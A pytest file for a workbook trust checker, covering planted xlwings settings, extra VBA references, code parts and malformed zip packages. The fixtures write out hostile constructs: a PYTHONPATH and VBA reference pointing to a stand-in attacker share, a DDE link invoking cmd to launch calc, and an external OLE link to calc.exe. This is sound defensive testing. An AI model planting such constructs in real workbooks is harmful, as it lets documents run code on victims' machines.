"""The trust check names what xlwings or Excel would obey wherever it hides: a setting
below an empty A1 (xlwings reads `A1:A1.End(xlDown)`), any other cell cims did not write
in the settings sheet, an extra VBA project reference, code parts of a .xlsx/.xltx,
external relationships to code, duplicate zip entries; a hostile package is refused
cleanly rather than crashing. Each test writes its own small workbook."""
from __future__ import annotations

import io
import zipfile

import openpyxl
import pytest

from cims_xl.excel.build import XLWINGS_CONF, build_bytes

UNTRUSTED = 14


@pytest.fixture(scope="module")
def shipped() -> bytes:
    return build_bytes()


def _parts(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return {i.filename: z.read(i.filename) for i in z.infolist()}


def _write(path, parts) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, body in (parts.items() if isinstance(parts, dict) else parts):
            z.writestr(name, body)


@pytest.mark.parametrize("cells", [
    {"A1": None, "B1": None, "A2": "PYTHONPATH", "B2": r"\\attacker\share\py"},     # empty A1, A2 read
    {"A1": None, "B1": None, "A2": "Interpreter_Win", "B2": r"\\srv\py\python.exe"},
    {"A5": "Conda Env", "B5": "evil"},                                                # just below the block
    {"A1": None, "B1": None, "A2": None, "B2": "/tmp/x"},                              # a value with no key
    {"F30": "PYTHONPATH"},                                                             # anywhere else
])
def test_a_setting_anywhere_in_the_conf_sheet_that_cims_did_not_write_is_named_and_restored(
        run, tmp_path, shipped, cells):
    book = tmp_path / "book.xlsm"
    book.write_bytes(shipped)
    wb = openpyxl.load_workbook(book, keep_vba=True)
    ws = wb["xlwings.conf"]
    for ref, value in cells.items():
        ws[ref] = value
    wb.save(book)
    code, _out, err = run("workbook", "check", str(book))
    assert code == UNTRUSTED, err
    planted = [v for v in cells.values() if v]
    assert all(v in err for v in planted), err
    code, out, err = run("sync", str(book), "refresh", "--restore-settings")
    assert code == 0, err
    assert run("workbook", "check", str(book))[0] == 0
    ws = openpyxl.load_workbook(book)["xlwings.conf"]
    rows = [(ws.cell(r, 1).value, ws.cell(r, 2).value) for r in range(1, len(XLWINGS_CONF) + 1)]
    assert rows == [(k, v) for k, (v, _n) in XLWINGS_CONF.items()]
    shipped_ws = openpyxl.load_workbook(io.BytesIO(shipped))["xlwings.conf"]
    assert all(ws[ref].value == shipped_ws[ref].value for ref in cells)




def _project_ref():
    from ms_ovba.Models.Entities.reference import Reference
    from ms_ovba.Models.Entities.reference_project import ReferenceProject
    from ms_ovba.Models.Fields.project_reference import ProjectReference

    return Reference(ReferenceProject(ProjectReference(r"\\attacker.example\share\evil.xlam")), "EvilLib"), "evil.xlam"


def _registered_ref():
    import uuid

    from ms_ovba.Models.Entities.reference import Reference
    from ms_ovba.Models.Entities.reference_registered import ReferenceRegistered
    from ms_ovba.Models.Fields.libid_reference import LibidReference

    lib = LibidReference(uuid.UUID("420B2830-E718-11CF-893D-00A0C9054228"), "1.0", "0",
                         r"C:\Windows\System32\scrrun.dll", "Microsoft Scripting Runtime")
    return Reference(ReferenceRegistered(lib), "Scripting"), "420B2830-E718-11CF-893D-00A0C9054228"


@pytest.mark.parametrize("extra", [_project_ref, _registered_ref])
def test_an_extra_vba_project_reference_is_named_and_restore_puts_back_cims_references(
        run, tmp_path, shipped, monkeypatch, extra):
    from cims_xl.excel import build

    parts = _parts(shipped)
    ref, named = extra()
    own = build._vba_references
    with monkeypatch.context() as m:
        m.setattr(build, "_vba_references", lambda: own() + [ref])
        from cims_xl.excel.trust import vba_modules_of
        sheets = sum(1 for name in vba_modules_of(parts["xl/vbaProject.bin"]) if name.startswith("Sheet"))
        parts["xl/vbaProject.bin"] = build.vba_project_bin(build.vba_modules(sheets))
    book = tmp_path / "book.xlsm"
    _write(book, parts)
    code, _out, err = run("workbook", "check", str(book))
    assert code == UNTRUSTED, err
    assert "reference" in err and named in err, err
    code, _out, err = run("sync", str(book), "refresh", "--restore-settings")
    assert code == 0, err
    assert run("workbook", "check", str(book))[0] == 0


RELS = "xl/_rels/workbook.xml.rels"
CT = "[Content_Types].xml"
OFFICE_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def _add_rel(parts, source_rels, rid, rtype, target, external=False):
    mode = ' TargetMode="External"' if external else ""
    parts[source_rels] = parts[source_rels].replace(
        b"</Relationships>", f'<Relationship Id="{rid}" Type="{rtype}" Target="{target}"{mode}/></Relationships>'.encode())


def _dde(parts):
    _add_rel(parts, RELS, "rIdE", OFFICE_REL + "externalLink", "externalLinks/externalLink1.xml")
    parts["xl/externalLinks/externalLink1.xml"] = (
        b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b'<ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>')
    return "a DDE link (xl/externalLinks/externalLink1.xml) to cmd"


def _macro_sheet(parts):
    _add_rel(parts, RELS, "rIdM", "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet",
             "macrosheets/sheet1.xml")
    parts["xl/macrosheets/sheet1.xml"] = (b'<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/'
                                          b'2006/main"><sheetData/></xm:macrosheet>')
    return "an Excel 4.0 macro sheet (xl/macrosheets/sheet1.xml)"


def _external_ole(parts):
    sheet_rels = "xl/worksheets/_rels/sheet1.xml.rels"
    parts.setdefault(sheet_rels, b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
                                 b'package/2006/relationships"></Relationships>')
    _add_rel(parts, sheet_rels, "rIdO", OFFICE_REL + "oleObject", "file:///C:/Windows/System32/calc.exe", True)
    return "an OLE object link"


def _external_project(parts):
    _add_rel(parts, RELS, "rIdV", "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
             r"\\srv\share\p.bin", True)
    return "a VBA project, linked from outside the workbook"


@pytest.mark.parametrize("suffix", [".xlsx", ".xltx", ".xlsm"])
@pytest.mark.parametrize("plant", [_dde, _macro_sheet, _external_ole, _external_project])
def test_code_parts_and_external_code_links_are_named_in_every_workbook_kind_sync_takes(
        run, tmp_path, shipped, suffix, plant):
    parts = _parts(shipped)
    named = plant(parts)
    book = tmp_path / f"book{suffix}"
    _write(book, parts)
    before = book.read_bytes()
    for args in (("workbook", "check", str(book)), ("sync", str(book), "refresh")):
        code, _out, err = run(*args)
        assert code == UNTRUSTED, (args, err)
        assert named in " ".join(err.split()), err
    assert book.read_bytes() == before


@pytest.mark.parametrize("part", ["xl/vbaProject.bin", "xl/workbook.xml", "xl/worksheets/sheet1.xml"])
def test_two_zip_entries_of_the_same_name_are_named_whichever_comes_first(run, tmp_path, shipped, part):
    parts = _parts(shipped)
    entries = [(part, parts[part])] + list(parts.items())      # the same bytes twice: the name alone decides
    book = tmp_path / "book.xlsm"
    _write(book, entries)
    code, _out, err = run("workbook", "check", str(book))
    assert code == UNTRUSTED, err
    assert f"two zip entries named {part}" in err
    assert "Duplicate name" not in err


def _extlink_without_target(parts):
    parts[RELS] = parts[RELS].replace(b"</Relationships>", (
        f'<Relationship Id="rIdE" Type="{OFFICE_REL}externalLink" Target="externalLinks/externalLink1.xml"/>'
        "</Relationships>").encode())
    parts["xl/workbook.xml"] = parts["xl/workbook.xml"].replace(
        b"</workbook>", b'<externalReferences><externalReference r:id="rIdE" xmlns:r="http://schemas.openxmlformats'
                        b'.org/officeDocument/2006/relationships"/></externalReferences></workbook>')
    parts["xl/externalLinks/externalLink1.xml"] = (
        b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.'
        b'openxmlformats.org/officeDocument/2006/relationships"><externalBook r:id="rId1"/></externalLink>')
    parts["xl/externalLinks/_rels/externalLink1.xml.rels"] = (
        b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"/>')
    return parts


def _odd_method(parts, method):
    entries = []
    for name, body in parts.items():
        info = zipfile.ZipInfo(name)
        info.compress_type = zipfile.ZIP_STORED
        entries.append((info, body))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for info, body in entries:
            z.writestr(info, body)
    data = bytearray(buf.getvalue())
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as z:       # mark the last entry with another method
        last = z.infolist()[-1]
    local, central = last.header_offset + 8, data.rfind(b"PK\x01\x02")
    data[local:local + 2] = method.to_bytes(2, "little")
    data[central + 10:central + 12] = method.to_bytes(2, "little")
    return bytes(data)


@pytest.mark.parametrize("suffix", [".xlsx", ".xlsm"])
@pytest.mark.parametrize("hostile", ["extlink", "method9", "method99"])
def test_a_hostile_package_is_refused_as_not_an_excel_workbook_without_a_crash(
        run, tmp_path, shipped, hostile, suffix):
    book = tmp_path / f"book{suffix}"
    parts = _parts(shipped)
    if hostile == "extlink":
        _write(book, _extlink_without_target(parts))
    else:
        parts["xl/media/blob.bin"] = b"\\x00" * 64
        book.write_bytes(_odd_method(parts, 9 if hostile == "method9" else 99))
    for args in (("workbook", "check", str(book)), ("sync", str(book), "refresh")):
        code, _out, err = run(*args)
        assert code == 1, (args, err)
        assert "as an Excel workbook" in err and "Exception ignored" not in err and "unexpected" not in err
